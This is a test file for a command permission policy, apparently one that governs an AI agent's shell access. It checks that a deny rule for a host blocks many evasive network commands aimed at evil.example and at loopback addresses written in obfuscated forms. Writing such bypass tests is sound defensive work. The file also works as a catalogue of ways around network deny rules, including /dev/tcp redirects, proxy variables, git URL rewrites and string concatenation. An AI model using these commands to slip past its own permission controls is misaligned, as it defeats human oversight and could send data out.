import { expect, test } from 'vitest';
import { decide } from '../../../src/core/policy/decide.js';
import { lines } from '../lines.js';
import { line, request, rule, run } from './requests.js';

/** With everything else allowed, what a deny rule for a host makes of a command. */
const denied = (host: string, text: string) =>
	decide(run(text), { mode: 'bypassPermissions', rules: [rule(`Fetch(${host})`, 'deny')] }).decision;

test.each(lines`
	curl -s https://{evil,good}.example/ ¦ wget -qO- https://{evil,good}.example/
	curl -s https://evi[k-m].example/ ¦ wget -qO- https://evi[k-m].example/ ¦ curl -s https://[e]vil.example
	wget -qO- https://[e]vil.example ¦ curl -s https://evil.{example,test}
	wget -qO- https://evil.{example,test} ¦ curl -s http://ev{i,o}l.example
	wget -qO- http://ev{i,o}l.example ¦ curl -s https://{ev,x}il.example/[1-3]
	wget -qO- https://{ev,x}il.example/[1-3] ¦ cat < /dev/tcp/evil.example/80
	exec 3<>/dev/tcp/evil.example/80 ¦ bash -c "cat < /dev/tcp/evil.example/80"
	echo x > /dev/udp/evil.example/53 ¦ echo x > /dev/tcp/$h/80 ¦ cat </dev/tcp/ev"il".example/80
	http_proxy=http://evil.example:80 curl http://x.test ¦ https_proxy=evil.example wget https://x.test
	ALL_PROXY=socks5://evil.example curl x.test ¦ export http_proxy=http://evil.example; curl x.test
	env http_proxy=evil.example curl x.test ¦ http_proxy=evil.example npm install
	HTTPS_PROXY=http://evil.example:3128 git fetch ¦ declare -x https_proxy=evil.example; curl x
	curl --proxy http://evil.example http://x ¦ curl --preproxy evil.example x
	curl --proxy1.0 evil.example x ¦ curl --resolve x.test:80:1.2.3.4 http://x.test
	curl --connect-to ::evil.example:443 https://x.test ¦ curl --connect-to x:80:evil.example:80 http://x
	wget -e http_proxy=evil.example http://x ¦ wget --execute https_proxy=evil.example http://x
	git -c http.proxy=http://evil.example fetch ¦ echo evil.example | xargs curl ¦ xargs curl < list
	curl ev{i,}l.example ¦ resolvectl query evil.example ¦ bash -c "exec 3<>/dev/tcp/evil.example/80"
	awk 'BEGIN{s="/inet/tcp/0/evil.example/80"; print "x" |& s}'
	gawk -e 'BEGIN{print > "/inet/tcp/0/evil.example/80"}' ¦ exec 5<>/dev/tcp/evil.example/80; cat <&5
	cat /dev/tcp/evil.example/80
	timeout 5 bash -c "</dev/tcp/evil.example/443"X curl "https://ev{i,x}l.example"
	curl 'https://{evil,good}.example/a' ¦ curl 'https://evi[k-m].example/' ¦ curl "{evil,x}.example"
	curl 'http://x:{a,b}@good.example' ¦ curl -g 'https://ev{i,x}l.example' ¦ find . -name x -exec curl {} \;
	parallel curl < list ¦ echo > $x ¦ export http_proxy=$P; curl x.test
	no_proxy=x http_proxy=$P curl y.test ¦ curl --resolv a:80:1.2.3.4 a ¦ curl --connect-to a:80:b:80 a
	wget -e use_proxy=on http://x
	python3 -c "import socket; socket.create_connection(('ev'+'il.example',80))"
	ruby -e "require 'open-uri'; URI.open('https://ev'+'il.example')"
	bash -c 'exec 3<>/dev/tcp/evil.example/80' ¦ { echo x; } > /dev/tcp/evil.example/80
	while read l; do echo $l; done < /dev/tcp/evil.example/80 ¦ cat 0</dev/tcp/EVIL.example./80
	git clone $URL ¦ git -C x push "$R" main ¦ declare -x ALL_PROXY=$P; wget x.test
	env https_proxy="$P" curl x.test ¦ git -c url.http://evil.example.insteadOf=http://x pull http://x
	git -c url.ssh://git@evil.example.pushInsteadOf=x push x
	git config url.http://evil.example.insteadof http://x && git pull http://x
	GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=url.http://evil.example.insteadOf GIT_CONFIG_VALUE_0=http://x git pull http://x
	git -c "url.$U.insteadOf=http://x" pull http://x ¦ openssl s_client -connect $H:443
	openssl s_client -connect evil.example:443 ¦ pip download -i http://$H x
	python3 -m pip download -i http://$H x ¦ npm install --registry "http://$H" x ¦ psql -h $H
	docker pull $H/x ¦ cargo install --git https://$H/x ¦ C=curl; $C http://x.test
	curl --variable h=evil --expand-url 'http://{{h}}.example' ¦ curl --expand-url '{{h}}' --var h@list
	curl --url @list ¦ curl --url=@list ¦ ssh -F config good.example
`)('deny Fetch(evil.example) does not allowed: %s', (text) => expect(denied('evil.example', text)).not.toBe('allow'));

test.each(lines`
	cat < /dev/tcp/127.0.0.1/80 ¦ cat < /dev/tcp/127.1/80 ¦ cat < /dev/tcp/2130706433/80
	cat < /dev/tcp/0x7f000001/80 ¦ cat < /dev/tcp/0177.0.0.1/80 ¦ cat < /dev/tcp/[::ffff:127.0.0.1]/80
	cat < /dev/tcp/[::ffff:7f00:1]/80 ¦ cat < /dev/tcp/127.0.0.1./80 ¦ cat < /dev/tcp/0x7f.1/80
	cat < /dev/tcp/127.0.1/80 ¦ cat < /dev/tcp/[0:0:0:0:0:ffff:127.0.0.1]/80 ¦ cat < /dev/tcp/017700000001/80
	cat < /dev/tcp/127.0.0.{1,2}/80 ¦ curl http://127.0.0.[1-3]/ ¦ curl 127.0.0.[1-3]
	wget http://127.0.0.[1-3]:8080/x ¦ nc 127.0.0.[1-3] 80 ¦ curl -x 127.0.0.[1-3] http://x.test
	cat < /dev/tcp/127.0.0.[1-3]/80 ¦ cat < /dev/tcp/１２７.0.0.1/80
	cat < /dev/tcp/127。0。0。1/80X curl "http://127.0.0.[1-3]/"
`)('deny Fetch(127.0.0.1) does not allowed: %s', (text) => expect(denied('127.0.0.1', text)).not.toBe('allow'));

test.each([
	'git clone https://bücher.example/x',
	'git fetch https://b%C3%BCcher.example',
	'git push git@bücher.example:x',
])('deny Fetch(xn--bcher-kva.example) does not allowed: %s', (text) =>
	expect(denied('xn--bcher-kva.example', text)).not.toBe('allow'),
);

test.each(lines`
	npm test ¦ git push ¦ curl https://good.example/x ¦ CI=1 npm test ¦ node scripts/build.mjs > out.txt
	wget -q https://good.example/x -O x ¦ git clone https://good.example/x ¦ python3 -c "print(1)"
	curl -H 'Accept: {"a":[1]}' -d '{"a": 1}' http://good.example/api ¦ curl "http://[::1]:3000/"
	pip install requests ¦ npm run build -- "$x" ¦ git commit -m "$message"
	curl -d @body.json http://good.example
`)('deny Fetch(evil.example) allows: %s', (text) => expect(denied('evil.example', text)).toBe('allow'));

test('A proxy that the request sets counts as well', () => {
	const rules = [rule('Fetch(evil.example)', 'deny')];
	const env = (value: string | null) => [{ name: 'https_proxy', value }];
	const decided = (value: string | null) =>
		decide(request('execute', { command: line('npm test', { envNames: ['https_proxy'], env: env(value) }) }), {
			mode: 'bypassPermissions',
			rules,
		}).decision;
	expect([decided('http://EVIL.example:80'), decided(null), decided('http://good.example')]).toEqual([
		...['deny', 'ask', 'allow'],
	]);
});
